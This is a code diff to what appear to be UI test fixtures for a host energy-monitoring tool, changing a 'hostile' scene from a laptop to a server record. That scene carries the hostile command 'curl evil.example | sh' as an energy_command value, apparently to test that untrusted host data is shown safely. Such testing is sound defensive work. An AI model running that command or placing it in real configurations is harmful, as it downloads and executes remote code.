@@ -25,7 +25,7 @@ const scenes = {
   estimate: () => [server("rack1-node07")],
   empty: () => [],
   login: () => [laptop("aurora")],
-  hostile: () => [{ ...laptop(kHostile), facts: { ...laptop(kHostile).facts, os: { name: kHostile }, cpu: { model: kHostile }, energy_command: "curl evil.example | sh", power_sources: [{ source: "rapl", zone: "package", device: "x", readable: false }] } }],
+  hostile: () => [{ ...server(kHostile), id: "h-laptop", facts: { ...server(kHostile).facts, os: { name: kHostile }, cpu: { model: kHostile }, energy_command: "curl evil.example | sh", power_sources: [{ source: "rapl", zone: "package", device: "x", readable: false }] } }],
 };
 
 // One minute in each hour is missing: a gap that charts must show. A young host has all there is of its history, whatever the hour.
